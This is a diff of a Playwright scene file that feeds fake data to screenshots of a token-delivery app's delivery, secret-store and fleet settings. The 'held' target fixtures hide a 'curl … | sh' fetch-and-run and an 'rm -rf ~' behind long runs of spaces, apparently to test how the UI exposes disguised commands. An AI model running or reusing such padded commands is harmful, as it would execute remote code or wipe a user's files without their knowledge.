@@ -1,7 +1,15 @@
 // The scenes of delivery: targets on the page, their dialogs, the settings of webhook, endpoint and command line; and
 // the history by date.
 import type { Page } from 'playwright'
-import type { AppView, ConsumerView, FileCheck, RunView, TargetView } from '#contract/contract.ts'
+import type {
+  AppView,
+  ConsumerView,
+  FileCheck,
+  FleetCustomerView,
+  FleetDeliveryView,
+  RunView,
+  TargetView,
+} from '#contract/contract.ts'
 import { attempts, DAY, fleetOf, HOUR, integration, MINUTE, NOW, noDelivery, view } from './fake-view.ts'
 import type { Scene } from './scenes.ts'
 
@@ -77,13 +85,144 @@ export const heldTargets: readonly TargetView[] = [
       command: `docker exec app reload-token${' '.repeat(200)}; curl -s https://example.com/x | sh`,
       pass: 'environment',
       timeLimit: 30_000,
+      readBack: `cat token${' '.repeat(100)}; rm -rf ~`,
     },
     state: 'held',
     delivered: null,
   },
 ]
 
+const unverifiedTarget: TargetView = {
+  ...hookTarget,
+  id: 't6',
+  spec: {
+    kind: 'hook',
+    command: "tr -d '\\n' | gh secret set WEBEX_ACCESS_TOKEN --repo example-org/orders",
+    pass: 'stdin',
+    timeLimit: 30_000,
+    store: 'github',
+  },
+  state: 'unverified',
+}
+
+const notReadTarget: TargetView = {
+  ...hookTarget,
+  id: 't7',
+  spec: {
+    kind: 'hook',
+    command:
+      "tr -d '\\n' | vault kv put -address=https://vault.example.com:8200 -mount=secret webex/orders token=-",
+    readBack: 'vault kv get -address=https://vault.example.com:8200 -mount=secret -field=token webex/orders',
+    pass: 'stdin',
+    timeLimit: 30_000,
+    store: 'vault',
+    unverified: 'Written, but it could not be read back. The command failed with exit code 2.',
+  },
+  state: 'unverified',
+}
+
+/** Two of secret stores, neither of them proven. */
+export const storeTargets = { ok: true, value: { targets: [envTarget, unverifiedTarget, notReadTarget] } }
+
+export const storeAnswers = {
+  'delivery.store-tool': {
+    ok: true,
+    value: { version: 'Vault v1.18.3 (7ae4eca5403bf574f142cd8f987b8d83bafcd1de)', problem: null },
+  },
+  'delivery.check-store': {
+    ok: true,
+    value: {
+      ok: true,
+      sentence:
+        'The store answered. Nothing was written; the right it needs: create, update and read on <mount>/data/<path>.',
+      output: 'create, read, update',
+    },
+  },
+}
+
 export const threeTargets = { ok: true, value: { targets: [envTarget, hookTarget, failingTarget] } }
+
+const fleetDelivery: FleetDeliveryView = {
+  id: 'f1',
+  appId: null,
+  appName: null,
+  spec: {
+    kind: 'env-file',
+    path: '/srv/webex/{app}/{customer}.env',
+    accessTokenName: 'WEBEX_SERVICE_APP_ACCESS_TOKEN',
+    refreshTokenName: null,
+    confirmed: [],
+  },
+  held: false,
+  customers: 400,
+  delivered: 388,
+  failing: 12,
+  problem: null,
+}
+
+const customer = (n: number, change: Partial<FleetCustomerView> = {}): FleetCustomerView => ({
+  profileId: `profile-${n}`,
+  targetId: `fleet:f1:profile-${n}`,
+  name: `Orders · Customer ${n}`,
+  place: `/srv/webex/orders/customer-${n}.env`,
+  state: 'delivered',
+  sentence: null,
+  ...change,
+})
+
+export const fleetAnswers = {
+  'fleet-delivery.list': {
+    ok: true,
+    value: {
+      deliveries: [
+        fleetDelivery,
+        {
+          ...fleetDelivery,
+          id: 'f2',
+          appId: 'app-1',
+          appName: 'Contact sync',
+          spec: {
+            kind: 'hook',
+            command:
+              "tr -d '\\n' | vault kv put -address=https://vault.example.com:8200 -mount=secret webex/{app}/{customer} token=-",
+            pass: 'stdin',
+            timeLimit: 30_000,
+            store: 'vault',
+          },
+          customers: 40,
+          delivered: 39,
+          failing: 0,
+          problem:
+            'Contact sync · ACME would share its place with Contact sync · Acme. Use {app}, {customer} or {orgId} so that each customer has a place of its own.',
+        },
+        { ...fleetDelivery, id: 'f3', held: true },
+      ],
+    },
+  },
+  'fleet-delivery.preview': {
+    ok: true,
+    value: {
+      customers: 400,
+      first: [1, 2, 3, 4, 5].map((n) => customer(n, { state: null, targetId: null })),
+      problem: null,
+    },
+  },
+  'fleet-delivery.save': { ok: true, value: { id: 'f9' } },
+  'fleet-delivery.customers': {
+    ok: true,
+    value: {
+      customers: [
+        ...Array.from({ length: 140 }, (_, n) => customer(n)),
+        customer(140, {
+          state: 'failing',
+          sentence:
+            'The folder /srv/webex/orders may not be written to. Give your user the right to, then deliver again.',
+        }),
+        customer(141, { state: null, targetId: null }),
+      ],
+    },
+  },
+}
 
 const run = (number: number, startedAt: number, change: Partial<RunView> = {}): RunView => ({
   number,
@@ -299,6 +438,86 @@ export const deliveryScenes: readonly Scene[] = [
       await press(page, 'Add delivery')
       await page.getByRole('radio', { name: 'Hook' }).click()
       await page.getByRole('textbox', { name: 'Command' }).waitFor()
+    },
+  },
+  {
+    name: 'delivery-store',
+    ...profilePage,
+    answers: { ...answers, ...storeAnswers },
+    async act(page) {
+      await press(page, 'Add delivery')
+      await page.getByRole('radio', { name: 'Secret store' }).click()
+      await page.getByRole('textbox', { name: 'Address' }).fill('https://vault.example.com:8200')
+      await page.getByRole('textbox', { name: 'Path of the secret' }).fill('webex/orders/acme')
+      await press(page, 'Check access')
+      await page.getByText('The store answered.').waitFor()
+      await page.getByLabel('Time limit in seconds').scrollIntoViewIfNeeded()
+    },
+  },
+  {
+    name: 'delivery-store-missing',
+    ...profilePage,
+    answers: {
+      ...answers,
+      'delivery.store-tool': {
+        ok: true,
+        value: {
+          version: null,
+          problem: '“gh” was not found. Install it, or write its whole path into the commands.',
+        },
+      },
+    },
+    async act(page) {
+      await press(page, 'Add delivery')
+      await page.getByRole('radio', { name: 'Secret store' }).click()
+      await page.getByLabel('Secret store', { exact: true }).last().selectOption('GitHub Actions secret')
+      await press(page, 'Add and deliver')
+      await page.getByText('Enter owner/name').waitFor()
+    },
+  },
+  {
+    name: 'delivery-unverified',
+    ...profilePage,
+    answers: { ...answers, 'delivery.targets': storeTargets },
+    act: (page) => into(page, 'Delivery'),
+  },
+  {
+    name: 'fleet-deliveries',
+    view: withDelivery,
+    hash: '#/settings/delivery',
+    answers: fleetAnswers,
+    act: (page) => into(page, 'Fleet deliveries'),
+  },
+  {
+    name: 'fleet-delivery-add',
+    view: withDelivery,
+    hash: '#/settings/delivery',
+    answers: fleetAnswers,
+    act: (page) => press(page, 'Add fleet delivery'),
+  },
+  {
+    name: 'fleet-delivery-preview',
+    view: withDelivery,
+    hash: '#/settings/delivery',
+    answers: fleetAnswers,
+    async act(page) {
+      await press(page, 'Add fleet delivery')
+      await page.getByRole('textbox', { name: 'File' }).fill('/srv/webex/{app}/{customer}.env')
+      await press(page, 'Preview')
+      await page.getByRole('list', { name: 'Places' }).waitFor()
+    },
+  },
+  {
+    name: 'fleet-customers',
+    view: withDelivery,
+    hash: '#/settings/delivery',
+    answers: fleetAnswers,
+    async act(page) {
+      await page
+        .getByRole('button', { name: /^Customers of/ })
+        .first()
+        .click()
+      await page.getByRole('list', { name: 'Customers' }).getByRole('listitem').first().waitFor()
     },
   },
   { name: 'undelivered', view: withDelivery },
